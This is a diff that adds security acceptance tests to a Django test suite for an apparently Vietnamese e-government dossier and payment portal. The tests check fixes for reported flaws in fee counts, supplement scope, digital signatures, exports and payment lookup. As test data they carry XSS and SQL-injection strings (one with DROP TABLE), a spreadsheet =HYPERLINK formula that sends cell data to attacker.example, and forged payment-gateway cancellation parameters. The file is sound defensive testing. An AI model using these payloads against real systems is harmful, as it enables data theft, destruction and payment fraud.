@@ -4,6 +4,7 @@ deployment check has nothing to say about the production settings."""
 
 from __future__ import annotations
 
+import csv
 import io
 import os
 import subprocess
@@ -15,15 +16,35 @@ from urllib.parse import urlencode
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
+from django.utils import timezone
+from openpyxl import load_workbook
 
+from dvc.accounts.services import api_token_create
 from dvc.accounts.tests.factories import UserFactory
 from dvc.catalog.models import Procedure
 from dvc.dossiers.backoffice.decision import dossier_refuse
 from dvc.dossiers.citizen.drafting import dossier_start
 from dvc.dossiers.citizen.papers import dossier_attach
-from dvc.dossiers.models import DossierAttachment
-from dvc.dossiers.tests.factories import MARITAL_ANSWERS, agency_staff, commune_centre
+from dvc.dossiers.models import Dossier, DossierAttachment
+from dvc.dossiers.tests import test_supplement_scope as supplement_scope
+from dvc.dossiers.tests.factories import (
+    BIRTH_FORM,
+    MARITAL_ANSWERS,
+    DossierFactory,
+    agency_staff,
+    commune_centre,
+    pdf_upload,
+    photo_upload,
+    sign_as,
+)
+from dvc.dossiers.tests.test_supplement_scope import edit_post
 from dvc.errors import InvalidInput
+from dvc.payments.models import FeeLine, PaymentAttempt
+from dvc.payments.tests import test_fee_quantities as fee_quantities
+from dvc.payments.tests.test_fee_quantities import COPY_ANSWERS
+from dvc.payments.tests.test_ipn import IPN, started
+from dvc.payments.tests.test_payment_sabotage import CAPTCHA
+from dvc.stats.services import counts_add
 from dvc.vault import inspection
 
 pytestmark = pytest.mark.django_db
@@ -31,6 +52,9 @@ ROOT = Path(__file__).resolve().parents[3]
 XSS = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
 SQLI = "' OR '1'='1' --; DROP TABLE dossiers_dossier; --"
 RAW = ("<script>alert(1)</script>", "<img src=x onerror")
+# Fixtures of the per-feature suites, reused here: a copy-fee draft and a dossier under a request for more papers.
+copy_draft = fee_quantities.copy_draft
+asked = supplement_scope.asked
 
 
 def _clean(response) -> None:
@@ -295,3 +319,225 @@ def test_a_serving_command_without_dvc_env_says_so_and_housekeeping_runs(tmp_pat
     check = subprocess.run([sys.executable, "manage.py", "check"], cwd=root, env=env, capture_output=True,
                            text=True, check=False, timeout=60)  # fmt: skip
     assert check.returncode == 0, check.stderr[-1000:]
+
+
+# Issue 15 acceptance: each finding's hostile input, sent the way an attacker or a careless user would send it.
+
+TEN = ["10.0", "1e1", "10,0", " 10 "]  # ten copies, however written: stored as 10 and billed 10 × 8,000 đồng
+NOT_A_COUNT = {"²": "phải là số", "-1": "không được nhỏ hơn 0", "11": "không được lớn hơn 10"}
+SUBMIT = {"declaration": "on", "captcha_0": "x", "captcha_1": "PASSED"}
+
+
+def _flat(answers: dict) -> dict:
+    """The API's nested answers as the filing page posts them (``f-person.part``), with online delivery."""
+    post = {"d-submission_method": "online", "d-result_method": "online", "d-notify_sms": "on"}
+    for name, value in answers.items():
+        if isinstance(value, dict):
+            post |= {f"f-{name}.{part}": text for part, text in value.items()}
+        else:
+            post[f"f-{name}"] = "on" if value is True else value
+    return post
+
+
+def _fees(dossier) -> list[tuple[int, int]]:
+    return [(line.quantity, line.amount) for line in FeeLine.objects.filter(dossier=dossier)]
+
+
+@pytest.mark.parametrize("copies", [*TEN, *NOT_A_COUNT])
+def test_hostile_copy_counts_through_the_api_are_refused_or_billed_as_whole_numbers(client, copy_draft, copies):
+    """Issue 15, finding 2: "10.0", "1e1" and "²" copies were stored as typed and billed from a float."""
+    dossier, headers = copy_draft
+    url = f"/api/v1/dossiers/{dossier.pk}"
+    body = {"form_data": {**COPY_ANSWERS, "so_ban_sao": copies}}
+    saved = client.patch(url, body, content_type="application/json", **headers)
+    sent = client.post(
+        url + "/submit", {"idempotency_key": "hostile-copies"}, content_type="application/json", **headers
+    )
+    assert saved.status_code == 200
+    if copies in NOT_A_COUNT:
+        assert NOT_A_COUNT[copies] in saved.json()["problems"]["so_ban_sao"][0]
+        assert sent.status_code == 422 and NOT_A_COUNT[copies] in sent.json()["errors"]["so_ban_sao"][0]
+        assert _fees(dossier) == [] and Dossier.objects.get(pk=dossier.pk).status == Dossier.Status.DRAFT
+    else:
+        assert saved.json()["form_data"]["so_ban_sao"] == 10 and saved.json()["problems"] == {}
+        assert sent.status_code == 200 and sent.json()["form_data"]["so_ban_sao"] == 10
+        assert _fees(dossier) == [(10, 80000)]
+
+
+@pytest.mark.parametrize("copies", [*TEN, *NOT_A_COUNT])
+def test_hostile_copy_counts_on_the_filing_page_are_refused_or_billed_as_whole_numbers(client, copy_draft, copies):
+    """The same counts typed into the filing page: a Vietnamese message by the field, or 10 copies billed."""
+    dossier, _headers = copy_draft
+    client.force_login(dossier.applicant)
+    edit_url, submit_url = (reverse(name, args=[dossier.pk]) for name in ("dossiers:edit", "dossiers:submit"))
+    edited = client.post(edit_url, {**_flat(COPY_ANSWERS), "f-so_ban_sao": copies, "continue": "1"})
+    dossier.refresh_from_db()
+    if copies in NOT_A_COUNT:
+        assert edited.status_code == 200
+        assert f"“Số bản sao trích lục cần cấp” {NOT_A_COUNT[copies]}" in edited.content.decode()
+    else:
+        assert edited.status_code == 302 and edited.url == submit_url and dossier.form_data["so_ban_sao"] == 10
+        assert "80.000" in client.get(submit_url).content.decode()
+    sent = client.post(submit_url, {**SUBMIT, "idempotency_key": "hostile-copies-page"})
+    assert sent.status_code < 500
+    dossier.refresh_from_db()
+    if copies in NOT_A_COUNT:
+        assert dossier.status == Dossier.Status.DRAFT and _fees(dossier) == []
+    else:
+        assert dossier.status == Dossier.Status.SUBMITTED and _fees(dossier) == [(10, 80000)]
+
+
+def _as_sent(dossier) -> tuple:
+    fresh = Dossier.objects.get(pk=dossier.pk)
+    return fresh.form_data, fresh.submission_method, fresh.result_method, fresh.delivery_address, fresh.notify_sms
+
+
+ADDRESS = {"province": "01", "commune": "00004", "line": "Số 9"}
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"d-result_method": "post", "d-province": "01", "d-commune": "00004", "d-address_line": "Số 9"},
+        {"f-dien_thoai": "0911111111"},
+        {"f-noi_cu_tru.line": "Số 99 Đội Cấn"},
+        {"f-nguoi_yeu_cau.full_name": "Trần Văn Khác"},
+    ],
+)
+def test_a_supplement_that_rewrites_what_was_not_asked_for_is_refused_on_the_page(client, asked, change):
+    """Issue 15, finding 3: a request for a clearer photo let the citizen rewrite the whole dossier."""
+    dossier, _identity, _staff = asked
+    before = _as_sent(dossier)
+    answer = client.post(reverse("dossiers:edit", args=[dossier.pk]), edit_post(dossier, **change))
+    assert answer.status_code == 200 and "chỉ sửa được những gì cơ quan yêu cầu" in answer.content.decode()
+    assert _as_sent(dossier) == before
+
+
+@pytest.mark.parametrize(
+    "patch",
+    [
+        {"result_method": "post", "delivery_address": ADDRESS},
+        {"delivery_address": ADDRESS},
+        {"submission_method": "post_pickup"},
+        {"form_data": {"dien_thoai": "0911111111"}},
+        {"form_data": {"muc_dich": "Vay vốn", "cam_doan": False}},
+    ],
+)
+def test_a_supplement_that_rewrites_what_was_not_asked_for_is_refused_by_the_api(client, asked, patch):
+    dossier, _identity, _staff = asked
+    headers = {"HTTP_AUTHORIZATION": f"Bearer {api_token_create(user=dossier.applicant)}"}
+    if "form_data" in patch:
+        patch = {"form_data": {**Dossier.objects.get(pk=dossier.pk).form_data, **patch["form_data"]}}
+    before = _as_sent(dossier)
+    url = f"/api/v1/dossiers/{dossier.pk}"
+    answer = client.patch(url, patch, content_type="application/json", **headers)
+    assert answer.status_code == 422 and "chỉ sửa được những gì cơ quan yêu cầu" in answer.json()["message"]
+    assert _as_sent(dossier) == before
+    opened = {**before[0], "muc_dich": "Vay vốn ngân hàng"}  # what the officer did open can still change
+    assert client.patch(url, {"form_data": opened}, content_type="application/json", **headers).status_code == 200
+
+
+@pytest.fixture
+def birth_draft(client):
+    """Anh An's birth registration (1.001193, the declaration must be signed), answered and with its papers."""
+    user = UserFactory(full_name="Nguyễn Văn An", id_number="001085012345")
+    dossier = dossier_start(applicant=user, procedure=Procedure.objects.get(code="1.001193"), agency=commune_centre())
+    for requirement, upload in (("Giấy chứng sinh", pdf_upload()), ("Giấy tờ tùy thân", photo_upload())):
+        paper = dossier.procedure.requirements.get(name__startswith=requirement)
+        dossier_attach(dossier=dossier, actor=user, requirement=paper, upload=upload)
+    client.force_login(user)
+    client.post(reverse("dossiers:edit", args=[dossier.pk]), {**BIRTH_FORM, "save": "1"})
+    return user, dossier
+
+
+def _upload_signed(client, dossier, signer) -> str:
+    """The current declaration, downloaded, signed by ``signer`` and uploaded: the message the page shows."""
+    declaration = client.get(reverse("dossiers:printable", args=[dossier.pk])).content
+    upload = SimpleUploadedFile("to-khai-ky-so.pdf", sign_as(signer, declaration))
+    return client.post(
+        reverse("dossiers:signed_form", args=[dossier.pk]), {"file": upload}, follow=True
+    ).content.decode()
+
+
+@pytest.mark.parametrize("via", ["page", "api"])
+def test_a_declaration_edited_after_signing_cannot_be_sent_as_signed(client, birth_draft, via):
+    """Issue 15, finding 4: the form was changed after signing and still went out as "ký số bởi …"."""
+    user, dossier = birth_draft
+    api = {"path": f"/api/v1/dossiers/{dossier.pk}", "HTTP_AUTHORIZATION": f"Bearer {api_token_create(user=user)}"}
+    assert "Chữ ký số hợp lệ" in _upload_signed(client, dossier, user)
+    assert client.get(**api).json()["problems"] == {}  # signed, nothing else missing: it could be sent now
+    if via == "page":
+        client.post(reverse("dossiers:edit", args=[dossier.pk]), {**BIRTH_FORM, "f-ho_ten_tre": "Nguyễn Minh Khang"})
+    else:
+        form_data = {**Dossier.objects.get(pk=dossier.pk).form_data, "ho_ten_tre": "Nguyễn Minh Khang"}
+        client.patch(data={"form_data": form_data}, content_type="application/json", **api)
+    problems = client.get(**api).json()["problems"]
+    assert list(problems) == ["signed_form"] and "chữ ký số" in problems["signed_form"][0]
+    sent = client.post(reverse("dossiers:submit", args=[dossier.pk]), {**SUBMIT, "idempotency_key": "signed-edited"})
+    assert sent.status_code == 200 and "chữ ký số" in sent.content.decode()
+    dossier.refresh_from_db()
+    assert dossier.status == Dossier.Status.DRAFT and dossier.signed_form is None and dossier.signed_by == ""
+    assert dossier.form_data["ho_ten_tre"] == "Nguyễn Minh Khang"
+
+
+@pytest.mark.parametrize(
+    ("signer_id", "shown"),
+    [("001085099999", "không phải của người nộp"), ("001085012345", "Chữ ký số hợp lệ. Người ký: Nguyễn Văn An")],
+)
+def test_a_declaration_signed_by_a_namesake_is_refused(client, birth_draft, signer_id, shown):
+    """Issue 15, finding 4: a certificate was matched to the applicant by name only."""
+    user, dossier = birth_draft
+    signer = UserFactory.build(full_name=user.full_name, id_number=signer_id)  # same name; the id decides
+    assert shown in _upload_signed(client, dossier, signer)
+    dossier.refresh_from_db()
+    assert (dossier.signed_form is not None) is (signer_id == user.id_number)
+
+
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_xlsx_and_csv_exports(client, start):
+    """Issue 15, finding 7: a citizen (or procedure) named ``=HYPERLINK(…)`` became a live formula for officers."""
+    agency = commune_centre()
+    formula = start + 'HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
+    dossier = DossierFactory(submitted=True, agency=agency, applicant_data={"full_name": formula})
+    Procedure.objects.filter(pk=dossier.procedure_id).update(name=formula)
+    counts_add(timezone.localdate(), agency.pk, dossier.procedure_id, received_online=1)
+    client.force_login(agency_staff(agency).officer)
+    for url in (reverse("staff:register") + "?xuat=xlsx", reverse("stats:report") + "?xuat=xlsx"):
+        content = client.get(url).content
+        cells = [c for row in load_workbook(io.BytesIO(content)).active for c in row if "HYPERLINK" in str(c.value)]
+        assert cells and {c.data_type for c in cells} == {"s"}, url
+        assert "<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode(), url
+    text = client.get(reverse("stats:report") + "?xuat=csv").content.decode("utf-8-sig")
+    names = [row[1] for row in csv.reader(io.StringIO(text, newline="")) if row and row[0] == "1.004873"]
+    assert names == ["'" + formula]
+
+
+NOT_FOUND = "Không tìm thấy hồ sơ có mã và mã bảo mật này"
+
+
+@pytest.mark.parametrize(
+    ("guess", "said"),
+    [("", "Trường này là bắt buộc"), ("AAAAAA", NOT_FOUND), ("<the dossier code>", "tối đa 12 kí tự"),
+     ("' OR '1'='1", NOT_FOUND), ("%", NOT_FOUND), ("*", NOT_FOUND)],
+)  # fmt: skip
+def test_paying_by_code_without_the_security_code_is_refused_and_spoils_nothing(client, guess, said):
+    """Issue 15, finding 5: the dossier code alone started a payment and cancelled the applicant's own attempt."""
+    dossier = DossierFactory(unpaid=True, fees=[36000])
+    mine = started(dossier)  # the applicant is at the gateway right now
+    guess = dossier.code if guess == "<the dossier code>" else guess
+    page = client.post(reverse("payments:by_code"), {"code": dossier.code, "security_code": guess, **CAPTCHA})
+    assert page.status_code == 200 and "36.000" not in page.content.decode()
+    assert said in page.content.decode()
+    assert client.post(reverse("payments:by_code_start", args=[dossier.pk])).status_code == 404
+    forged = {"vnp_TxnRef": mine.txn_ref, "vnp_ResponseCode": "24", "vnp_TransactionStatus": "02"}  # "cancelled"
+    client.get(reverse("payments:vnpay_return"), forged)
+    assert client.get(IPN, forged).json()["RspCode"] == "97"
+    mine.refresh_from_db()
+    assert mine.status == PaymentAttempt.Status.PENDING
+    assert list(PaymentAttempt.objects.filter(dossier=dossier)) == [mine]  # no attempt of the stranger's
+    assert Dossier.objects.get(pk=dossier.pk).fee_status == Dossier.FeeStatus.UNPAID
+    right = {"code": dossier.code, "security_code": dossier.security_code, **CAPTCHA}
+    assert "36.000" in client.post(reverse("payments:by_code"), right).content.decode()  # the page does show fees
